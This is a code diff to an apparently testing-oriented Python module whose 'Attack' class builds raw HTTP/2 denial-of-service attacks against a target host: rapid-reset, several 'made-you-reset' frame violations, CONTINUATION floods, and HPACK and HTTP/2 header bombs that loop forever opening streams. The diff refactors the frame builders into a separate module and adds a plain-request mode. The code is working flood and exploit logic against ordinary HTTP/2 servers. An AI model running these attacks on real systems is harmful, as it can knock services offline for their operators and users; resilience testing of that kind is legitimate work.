@@ -6,6 +6,7 @@ import time
 import hpack
 import hyperframe.frame as frames
 
+import provoke
 import wire
 
 # How long a kind may take, and how long is waited at its end for what the other side does of it.
@@ -57,6 +58,7 @@ class Attack:
         self.name = name
         self.frames = told.frames
         self.wait = wait
+        self.plain = told.plain
         self.host = wire.address(told)[0]
         self.stream = wire.connect(told)
         self.reader = wire.Reader(self.stream)
@@ -109,10 +111,13 @@ class Attack:
         self.next_stream += 2
         return number
 
+    def block(self):
+        """What opens a stream: CONNECT to the null server; of a waypoint's users, a request."""
+        return wire.request_block(self.host) if self.plain else wire.connect_block(f"{self.host}:8080")
+
     def connect(self, stream, end=False):
-        """A CONNECT request to the null server."""
         made = frames.HeadersFrame(stream)
-        made.data = wire.connect_block(f"{self.host}:8080")
+        made.data = self.block()
         made.flags.add("END_HEADERS")
         if end:
             made.flags.add("END_STREAM")
@@ -150,28 +155,6 @@ def made_you_reset(provoke):
             yield attack.connect(stream) + provoke(stream)
 
     return make
-
-
-def window_0(stream):
-    return wire.frame(WINDOW_UPDATE, 0, stream, bytes(4))
-
-
-def overflow(stream):
-    return wire.frame(WINDOW_UPDATE, 0, stream, (0x7FFFFFFF).to_bytes(4, "big"))
-
-
-def data_after_end(stream):
-    return wire.frame(0, END_STREAM, stream, b"") + wire.frame(0, 0, stream, b"x")
-
-
-def headers_after_end(stream):
-    return wire.frame(0, END_STREAM, stream, b"") + wire.frame(
-        HEADERS, END_HEADERS, stream, wire.literal(b"a", b"b")
-    )
-
-
-def priority_length(stream):
-    return wire.frame(2, 0, stream, bytes(4))
 
 
 def continuation(attack):
@@ -250,7 +233,7 @@ def hpack_bomb(attack):
     yield wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x40" + big[1:])
     while True:
         stream = attack.new_stream()
-        block = wire.connect_block(f"{attack.host}:8080") + b"\xbe" * 16000
+        block = attack.block() + b"\xbe" * 16000
         yield wire.frame(HEADERS, END_HEADERS, stream, block)
 
 
@@ -261,10 +244,10 @@ def http2_bomb(name):
         yield wire.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
         stream = attack.new_stream()
         entry = b"\x40" + wire.literal(name, b"")[1:]
-        yield wire.frame(HEADERS, END_HEADERS, stream, wire.connect_block(f"{attack.host}:8080") + entry)
+        yield wire.frame(HEADERS, END_HEADERS, stream, attack.block() + entry)
         while True:
             stream = attack.new_stream()
-            block = wire.connect_block(f"{attack.host}:8080") + b"\xbe" * 16000
+            block = attack.block() + b"\xbe" * 16000
             yield wire.frame(HEADERS, END_HEADERS, stream, block)
 
     return make
@@ -299,11 +282,11 @@ def goaway(attack):
 
 KINDS = {
     "rapid-reset": rapid_reset,
-    "made-you-reset-window-0": made_you_reset(window_0),
-    "made-you-reset-overflow": made_you_reset(overflow),
-    "made-you-reset-data-after-end": made_you_reset(data_after_end),
-    "made-you-reset-headers-after-end": made_you_reset(headers_after_end),
-    "made-you-reset-priority-length": made_you_reset(priority_length),
+    "made-you-reset-window-0": made_you_reset(provoke.window_0),
+    "made-you-reset-overflow": made_you_reset(provoke.overflow),
+    "made-you-reset-data-after-end": made_you_reset(provoke.data_after_end),
+    "made-you-reset-headers-after-end": made_you_reset(provoke.headers_after_end),
+    "made-you-reset-priority-length": made_you_reset(provoke.priority_length),
     "continuation": continuation,
     "empty-continuation": empty_continuation,
     "settings": settings,
